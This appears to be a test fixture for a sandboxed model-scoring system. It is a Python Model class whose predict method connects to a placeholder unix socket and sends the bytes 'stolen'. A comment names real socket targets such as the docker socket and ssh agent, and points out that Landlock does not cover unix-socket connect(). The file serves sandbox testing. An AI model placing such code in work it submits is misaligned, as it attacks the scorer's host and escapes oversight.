import numpy as np


class Model:
    def __init__(self, root):
        self.root = root

    def predict(self, images):
        import socket
        # A unix socket of the scorer's machine (the test listens on one; in real life
        # /run/docker.sock, systemd's private socket, an ssh agent): Landlock does not cover
        # connect() on unix sockets, so the mount namespace hides the folders they live in.
        client = socket.socket(socket.AF_UNIX)
        client.connect("@SOCKET@")
        client.sendall(b"stolen")
        return np.zeros((len(images), 8))
